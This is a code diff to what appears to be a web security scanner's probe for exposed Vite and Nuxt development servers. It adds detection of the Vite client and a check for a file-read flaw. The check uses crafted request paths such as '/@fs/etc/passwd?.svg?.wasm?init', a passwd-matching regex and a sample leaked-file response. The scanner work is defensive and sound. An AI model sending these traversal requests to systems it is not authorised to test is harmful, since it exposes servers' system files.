@@ -1,11 +1,23 @@
+import type { Exchange } from '../../evidence/facts/exchange.ts';
 import { jsonValue, readVariables } from '../../evidence/parse/secrets/exposed-file.ts';
-import { defineFileProbe } from '../define-file-probe.ts';
+import { defineFileProbe, type FileMatch } from '../define-file-probe.ts';
 import { htmlAnswer, jsonAnswer, textAnswer } from '../scene-answers.ts';
 
 const ABOUT = htmlAnswer(
   '<!doctype html><html><head><title>Shop</title></head><body>Built with Vite and webpack.</body></html>',
 );
 const PASSWD = /root:[^:\n"]{0,40}:0:0:/;
+
+function viteClient({ text }: Exchange): FileMatch | undefined {
+  return /class HMRContext|import\.meta\.hot|HMRClient/.test(text) && text.includes('vite') && !/^\s{0,20}</.test(text)
+    ? { shows: 'Vite development server client' }
+    : undefined;
+}
+
+/** The start of the data that a script embeds as a base64 URL. */
+function embeddedText(script: string): string {
+  return Buffer.from(script.split(';base64,', 2)[1]?.slice(0, 400) ?? '', 'base64').toString('latin1');
+}
 
 export default defineFileProbe({
   id: 'active/frameworks/development-server',
@@ -30,17 +42,37 @@ export default defineFileProbe({
       },
     },
   },
-  references: ['CWE-489', 'CVE-2025-30208', 'CVE-2025-31125', 'CVE-2026-39364', 'OWASP A05:2021'],
+  references: ['CWE-489', 'CVE-2025-30208', 'CVE-2025-31125', 'CVE-2025-31486', 'CVE-2026-39364', 'OWASP A05:2021'],
   files: [
     {
       path: '/@vite/client',
       problem: 'running',
-      proves: ({ text }) =>
-        /class HMRContext|import\.meta\.hot|HMRClient/.test(text) && text.includes('vite') && !/^\s{0,20}</.test(text)
-          ? { shows: 'Vite development server client' }
-          : undefined,
+      proves: viteClient,
       example: textAnswer('class HMRContext {}\nconsole.debug("[vite] connecting...");\n', 'text/javascript'),
       twin: ABOUT,
+    },
+    {
+      path: '/_nuxt/@vite/client',
+      problem: 'running',
+      proves: viteClient,
+      example: textAnswer('class HMRContext {}\nconsole.debug("[vite] connecting...");\n', 'text/javascript'),
+      twin: ABOUT,
+    },
+    {
+      path: '/@fs/etc/passwd?.svg?.wasm?init',
+      problem: 'files',
+      proves: ({ text }) =>
+        text.includes('initWasm(') && PASSWD.test(embeddedText(text))
+          ? { shows: 'the server’s /etc/passwd' }
+          : undefined,
+      example: textAnswer(
+        'export default opts => initWasm(opts, "data:application/octet-stream;base64,cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=")',
+        'text/javascript',
+      ),
+      twin: textAnswer(
+        'export default opts => initWasm(opts, "data:application/wasm;base64,AGFzbQEAAAA=")',
+        'text/javascript',
+      ),
     },
     {
       path: '/@fs/etc/passwd?raw??',
